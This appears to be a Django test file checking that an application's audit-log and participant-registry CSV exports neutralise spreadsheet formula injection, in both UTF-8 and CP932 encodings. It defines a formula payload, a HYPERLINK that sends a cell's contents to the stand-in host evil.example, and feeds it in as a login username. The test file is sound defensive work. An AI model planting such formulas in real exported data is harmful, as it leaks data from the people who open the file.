"""Issue 7 §2: a user ID typed at an unauthenticated token request lands in the audit-log CSV neutralised; the
downloads share one writer (UTF-8 with BOM, or CP932 on request)."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from capmarket.domain.accounts.models import User

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(body: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


def test_attacker_user_id_from_the_token_endpoint_is_neutralised_in_the_audit_csv(approver: User, db: Any) -> None:
    APIClient().post("/api/auth/token/", {"username": ATTACK, "password": "x"}, format="json")
    staff = Client()
    staff.force_login(approver)

    response = staff.get(reverse("web:audit_list"), {"format": "csv"})

    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert body.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in _rows(body, "utf-8-sig") for cell in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells


def test_audit_csv_in_cp932(approver: User) -> None:
    staff = Client()
    staff.force_login(approver)

    response = staff.get(reverse("web:audit_list"), {"format": "csv", "encoding": "cp932"})

    assert response["Content-Type"] == "text/csv; charset=shift_jis"
    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert _rows(body, "cp932")[0][:2] == ["日時", "ユーザID"]


def test_registry_download_in_cp932_is_neutralised_too(approver: User) -> None:
    from tests.factories import make_participant

    make_participant(participant_code="X0001", name="@悪意のある株式会社")
    staff = Client()
    staff.force_login(approver)

    response = staff.get(reverse("web:participant_csv"), {"encoding": "cp932"})

    rows = _rows(response.content, "cp932")
    assert rows[0][0] == "事業者コード"
    assert rows[1][:2] == ["X0001", "'@悪意のある株式会社"]
